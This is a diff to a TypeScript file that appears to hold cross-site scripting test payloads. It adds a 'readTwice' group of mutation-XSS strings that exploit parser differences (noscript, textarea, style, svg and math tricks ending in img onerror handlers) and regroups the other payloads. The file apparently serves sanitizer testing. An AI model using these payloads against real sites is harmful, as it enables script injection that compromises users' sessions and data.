@@ -165,8 +165,8 @@ const asleep = [
   `<!--[if gte IE 4]><script>${mark}</script><![endif]-->`,
 ];
 
-/** Swallow all that follows them, so that each stands alone. */
-const swallowing = [
+/** Read as text by one parser and as markup by the next: what mutation attacks live on. */
+const readTwice = [
   `<noscript><p title="</noscript><img src=x onerror=${mark}>">`,
   `<textarea autofocus onfocus=${mark}><img title="</textarea><img src=x onerror=${mark}>">`,
   `<style><img src="</style><img src=x onerror=${mark}//">`,
@@ -174,12 +174,13 @@ const swallowing = [
   `<noembed><img title="</noembed><img src=x onerror=${mark}>"></noembed>`,
   `<noframes><img title="</noframes><img src=x onerror=${mark}>"></noframes>`,
   `<iframe><img title="</iframe><img src=x onerror=${mark}>"></iframe>`,
-  `<img src=x onerror=${mark} `,
   `<svg><textarea><img title="</textarea><img src=x onerror=${mark}>"></svg>`,
-  `<plaintext><img src=x onerror=${mark}>`,
   `<math><xss><style><img src=x onerror=${mark}>`,
   `<svg><p><style><!--</style><img src=x onerror=${mark}>`,
 ];
 
-export const payloads = { atOnce, whenTouched, asleep, swallowing };
-export const allPayloads: readonly string[] = [...atOnce, ...whenTouched, ...asleep, ...swallowing];
+/** Swallow all that follows them, so that each stands alone. */
+const swallowing = [`<img src=x onerror=${mark} `, `<plaintext><img src=x onerror=${mark}>`];
+
+export const payloads = { atOnce, whenTouched, asleep, readTwice, swallowing };
+export const allPayloads: readonly string[] = Object.values(payloads).flat();
